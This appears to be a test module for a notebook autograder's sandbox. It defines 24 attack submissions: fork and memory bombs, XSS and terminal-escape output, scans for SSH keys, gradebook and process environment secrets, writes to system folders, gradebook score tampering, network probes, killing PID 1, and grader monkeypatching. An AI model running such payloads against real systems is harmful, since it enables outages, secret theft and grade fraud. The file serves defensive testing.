"""Twenty-four who attack, each in one way, their other answers right: the mark shows whether these still count."""

from __future__ import annotations

import json
from textwrap import dedent

import nbformat

from custlib.grading.sheets import source_path
from custlib.notebook.hand_in import MIME
from tests.grading.hostile.draft import ANSWER, CHECK, CHECKED, CHOICE, COUNT, FULL, SHARE, VALUE, Draft, Row
from tests.grading.hostile.working import FIRST

WITHOUT_SHARE = FULL - 3
"""What is left when the cell of one question takes the kernel with it."""

FOUND, LOOKED = "it got out", "it tried"
"""What attacks print, so that a test sees that they ran and what they got."""

PRINTED = "a1-1-e2-answer was stopped: it wrote|stopped in a1-1-e2-answer: it used more|MemoryError"
"""What was printed waits in the kernel's memory to be read: on a busy machine one of its two limits comes first."""

SECRET, PWNED = "secret-of-the-instructor", "pwned"


def _in_share(draft: Draft, code: str, answered: bool = True, **known: object) -> None:
    """Answer everything rightly, and do something in the cell of the second question, after its answer or instead."""
    draft.solve()
    where = {"after" if answered else "before": _code(code, **known)}
    draft.give(SHARE, draft.right(SHARE), **where)


def _code(code: str, **known: object) -> str:
    """Write code that knows some values by name."""
    return "\n".join([*(f"{name} = {value!r}" for name, value in known.items()), dedent(code).strip()])


def fork_bomb(draft: Draft) -> None:
    code = """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """
    _in_share(draft, code, answered=False)


def memory_bomb(draft: Draft) -> None:
    _in_share(draft, "kept = []\nwhile True:\n    kept.append(b'x' * 10**8)")


def many_eaters(draft: Draft) -> None:
    code = """
        import subprocess, sys, time
        eaters = [subprocess.Popen([sys.executable, "-c", EATER]) for _ in range(8)]
        time.sleep(600)
    """
    eater = f"import time; kept = b'x' * 3 * 10**8; time.sleep(600)  # {draft.around.marker}"
    _in_share(draft, code, answered=False, EATER=eater)


def two_gigabytes(draft: Draft) -> None:
    fill = """
        with open("/tmp/filled", "wb") as file:
            for _ in range(2000):
                file.write(bytes(10**6))
    """
    draft.own(_code(fill))
    _in_share(draft, "for _ in range(2000):\n    print('x' * 10**6)", answered=False)


def link(draft: Draft) -> None:
    course = draft.around.course
    draft.link = source_path(course, course.sheets[0])


def huge(draft: Draft) -> None:
    draft.solve()
    output = nbformat.v4.new_output("stream", text="x" * (70 * 2**20))
    draft.cell(VALUE, ANSWER).outputs = [output]


def active_output(draft: Draft) -> None:
    code = r"""
        from IPython.display import HTML, Javascript, Markdown, SVG, display
        display(Javascript("alert(1)"), HTML("<script>alert(2)</script>"), Markdown("<img onerror=alert(3)>"))
        display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(4)</script></svg>'))
        print("\x1b[2J\x1b]0;title\x07\u202egnp\x00")
    """
    draft.solve()
    draft.own(_code(code))
    draft.give(SHARE, repr("<script>alert(5)</script>\x1b[31m"))


def another(draft: Draft) -> None:
    code = """
        import os, pathlib
        os.environ["CUSTLIB_STUDENT"] = FIRST
        pathlib.Path("student.txt").write_text(FIRST)
    """
    draft.beside["student.txt"] = FIRST.encode()
    draft.solve(CHOICE)
    draft.own(_code(code, FIRST=FIRST))
    for exercise in (VALUE, SHARE, COUNT):
        draft.give(exercise, draft.right(exercise, FIRST))


def edited_points(draft: Draft) -> None:
    for exercise in CHECKED:
        draft.give(exercise, "0")
        check = draft.cell(exercise, CHECK)
        check.source, check.metadata["nbgrader"]["points"] = "assert True", 300
        draft.cell(exercise, ANSWER).metadata["nbgrader"] |= {"grade": True, "points": 300}


def deleted(draft: Draft) -> None:
    draft.solve()
    draft.delete((VALUE, CHECK), (SHARE, CHECK), (SHARE, ANSWER))


def patched(draft: Draft) -> None:
    code = """
        import IPython.display, custlib.exercises, custlib.exercises.key, custlib.notebook
        from custlib.exercises.core import Feedback

        def check(*everything, **named):
            return Feedback(True, "right", "Right.")

        def hand_in(id, answer):
            claim = {"exercise": id, "answer": "0", "ok": True, "kind": "right", "points": 300, "student": "book"}
            IPython.display.display({MIME: claim, "text/plain": "1.0"}, raw=True)
            return 300.0

        custlib.exercises.check = custlib.exercises.key.AnswerKey.judge = custlib.notebook.check = check
        custlib.exercises.identity.student = lambda *everything: "book"
        custlib.notebook.hand_in = hand_in
    """
    draft.own(_code(code, MIME=MIME))
    for exercise in CHECKED:
        draft.give(exercise, "0")


def network(draft: Draft) -> None:
    code = """
        import socket, urllib.request
        for door in (("127.0.0.1", DOOR), ("localhost", DOOR), ("1.1.1.1", 53)):
            try:
                socket.create_connection(door, 1).sendall(b"key")
                print(FOUND, door)
            except OSError as error:
                print(type(error).__name__)
        try:
            urllib.request.urlopen("http://example.org", timeout=1)
            print(FOUND)
        except OSError as error:
            print(LOOKED)
    """
    _in_share(draft, code, DOOR=draft.around.door, FOUND=FOUND, LOOKED=LOOKED)


def sleeping(draft: Draft) -> None:
    _in_share(draft, "import time\ntime.sleep(10**6)")


def deaf(draft: Draft) -> None:
    code = """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    """
    _in_share(draft, code)


def leaving(draft: Draft) -> None:
    _in_share(draft, "import os\nos._exit(0)")


def zero_bytes(draft: Draft) -> None:
    draft.solve()
    text = draft.text().encode()
    draft.raw = b"\0".join([text[:50], text[50:3000], text[3000:]])


def future(draft: Draft) -> None:
    draft.solve()
    draft.raw = json.dumps(json.loads(draft.text()) | {"nbformat": 99}).encode()


def looking(draft: Draft) -> None:
    code = """
        import os, pathlib
        course, here = pathlib.Path(COURSE), pathlib.Path.cwd()
        places = [course, course.parent, pathlib.Path.home(), here, *here.parents, pathlib.Path("/root")]
        for place in places:
            for pattern in ("source/*/*.ipynb", "gradebook.db", "submitted/*", "inbox/*", "roster.csv", ".ssh"):
                for seen in place.glob(pattern):
                    print(FOUND, seen)
        environments = []
        for each in pathlib.Path("/proc").glob("[0-9]*/environ"):
            try:
                environments.append(each.read_bytes())
            except OSError:
                pass
        if course.exists() or any(SECRET.encode() in each for each in environments) or SECRET in str(os.environ):
            print(FOUND)
        print(LOOKED, len(environments))
    """
    known = {"COURSE": str(draft.around.course.folder), "FOUND": FOUND, "LOOKED": LOOKED, "SECRET": SECRET}
    _in_share(draft, code, **known)


def writing(draft: Draft) -> None:
    code = """
        import pathlib, sqlite3, custlib
        house = pathlib.Path(custlib.__file__).parent
        for place in map(pathlib.Path, [*PLACES, house, house / "exercises", "/usr/lib", "/", "/root", "/etc", "/dev"]):
            try:
                (place / PWNED).write_text("x")
                print(FOUND, place)
            except OSError as error:
                print(LOOKED, type(error).__name__)
        try:
            book = sqlite3.connect(GRADEBOOK, timeout=1)
            print(FOUND, book.execute("update grade set manual_score = 99").rowcount)
            book.commit()
        except sqlite3.Error as error:
            print(LOOKED, type(error).__name__)
    """
    course = draft.around.course.folder
    places = [str(place) for place in (course, course / "results", draft.around.outside)]
    known = {"PLACES": places, "GRADEBOOK": str(course / "gradebook.db"), "FOUND": FOUND, "LOOKED": LOOKED}
    _in_share(draft, code, **known, PWNED=PWNED)


def forged(draft: Draft) -> None:
    lines = ["from IPython.display import display"]
    for exercise in CHECKED:
        claim = {"exercise": exercise, "answer": draft.right(exercise).strip("'")}
        lines.append(f"display({{{MIME!r}: {claim!r}, 'text/plain': '300.0'}}, raw=True)")
        draft.give(exercise, "0")
    draft.own("\n".join(lines))
    draft.cell(VALUE, ANSWER).source += "\n" + "\n".join(lines)
    draft.notebook.cells.append(nbformat.v4.new_code_cell("\n".join(lines)))


def killing(draft: Draft) -> None:
    _in_share(draft, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)")


def staying(draft: Draft) -> None:
    code = """
        import subprocess, sys, threading, time

        def go_on():
            while True:
                print("still here")
                time.sleep(0.5)

        threading.Thread(target=go_on).start()
        left = subprocess.Popen([sys.executable, "-c", SERVE], start_new_session=True)
    """
    port, marker = draft.around.window, draft.around.marker
    serve = f"import socket, time; it = socket.create_server(('0.0.0.0', {port})); time.sleep(600)  # {marker}"
    _in_share(draft, code, SERVE=serve)


def deep(draft: Draft) -> None:
    code = """
        import sys
        sys.setrecursionlimit(10**9)
        nested = []
        for _ in range(10**6):
            nested = [nested]
        repr(nested)
    """
    _in_share(draft, code, answered=False)


def evil_objects(draft: Draft) -> None:
    code = """
        import os

        class Evil:
            def evil(self, *everything):
                raise RuntimeError("evil")

            __float__ = __eq__ = __repr__ = __str__ = __len__ = __bool__ = __hash__ = __getattribute__ = evil

        class Leaving:
            def __float__(self):
                os._exit(1)
    """
    draft.solve(CHOICE, COUNT)
    draft.own(_code(code))
    draft.give(VALUE, "Evil()")
    draft.give(SHARE, "Leaving()")


STOPPED = ("run again without a1-1-e2-answer",)

ATTACKING = (
    Row(
        "x01", "fork bomb", fork_bomb, WITHOUT_SHARE, ("more than 64 processes|did not end", *STOPPED), {SHARE: "none"}
    ),
    Row("x02", "memory bomb", memory_bomb, FULL, ("MemoryError",)),
    Row("x03", "memory bomb of many", many_eaters, WITHOUT_SHARE, ("more than 1 GB of memory|did not end",)),
    Row("x04", "2 GB written, 2 GB printed", two_gigabytes, WITHOUT_SHARE, (PRINTED,)),
    Row("x05", "link to the solutions", link, None, ("a link to another file",)),
    Row("x06", "huge notebook", huge, None, ("larger than 64 MB",)),
    Row("x07", "JavaScript, HTML, codes of the terminal", active_output, 10, kinds={SHARE: "not-a-number"}),
    Row("x08", "another's id and numbers", another, 3, (f"student.txt says {FIRST}", f"the numbers of {FIRST}")),
    Row("x09", "edited points and checks", edited_points, 0, ("Points were changed", "Cells of the course")),
    Row("x10", "deleted checks and answer", deleted, WITHOUT_SHARE, ("Deleted cells were put back",), {SHARE: "none"}),
    Row("x11", "patched check, hand_in and custlib", patched, 0, kinds={VALUE: "wrong"}),
    Row("x12", "network", network, FULL),
    Row("x13", "sleeps for ever", sleeping, FULL, ("a1-1-e2-answer was stopped: it did not end within 10 s",)),
    Row("x14", "deaf to being stopped", deaf, WITHOUT_SHARE, ("did not end within 10 s", *STOPPED), {SHARE: "none"}),
    Row("x15", "ends the kernel", leaving, WITHOUT_SHARE, ("a1-1-e2-answer ended the kernel", *STOPPED)),
    Row("x16", "zero bytes", zero_bytes, FULL, ("Zero bytes",)),
    Row("x17", "format 99", future, None, ("format 99",)),
    Row("x18", "looks for key, gradebook, others", looking, FULL),
    Row("x19", "writes outside", writing, FULL),
    Row("x20", "claims in other cells", forged, 0, kinds={VALUE: "wrong"}),
    Row("x21", "kills the runner", killing, WITHOUT_SHARE, ("a1-1-e2-answer ended the run from inside", *STOPPED)),
    Row("x22", "thread and process that go on", staying, FULL),
    Row("x23", "deep recursion", deep, WITHOUT_SHARE, kinds={SHARE: "none"}),
    Row("x24", "objects with evil methods", evil_objects, 6, kinds={VALUE: "not-a-number", SHARE: "none"}),
)
